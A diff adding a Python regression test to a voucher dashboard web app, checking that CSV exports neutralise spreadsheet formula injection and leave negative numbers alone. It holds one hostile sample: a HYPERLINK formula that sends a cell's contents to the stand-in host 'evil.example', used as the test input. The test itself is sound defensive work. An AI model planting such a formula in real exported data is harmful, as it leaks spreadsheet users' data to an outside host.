@@ -329,3 +329,22 @@ def test_the_page_speaks_one_language(dash, client, login, lang, header):
             dash.officer.username, "odd_hours",  # a rule without a label shows its code
         ]  # fmt: skip
         assert_one_language(html, lang, data=data)
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?x="&A1,"click")'
+
+
+def test_a_provider_named_like_a_formula_is_text_in_every_download(dash, client, login):
+    """The CSV wrote text cells unchanged, so Excel ran a provider named "=HYPERLINK(…)" as
+    a formula. Text starting with = + - @ TAB or CR gets a leading quote (OWASP); numbers,
+    negative ones too, are left alone."""
+    dash.market.station.name = FORMULA
+    db.session.commit()
+    login(dash.officer)
+    month = f"month={dash.month:%Y-%m}"
+    rows = _csv(client.get(f"/vouchers/bureau/insight/providers.csv?{month}").data)
+    names = [r[1] for r in rows[1:]]
+    assert "'" + FORMULA in names and FORMULA not in names
+    # The burn-down's "left" of last month is negative (spent before anything was funded).
+    left = [r[-1] for r in _csv(client.get(f"/vouchers/bureau/insight/burn_down.csv?{month}").data)]
+    assert "-20.00" in left and not any(v.startswith("'") for v in left)
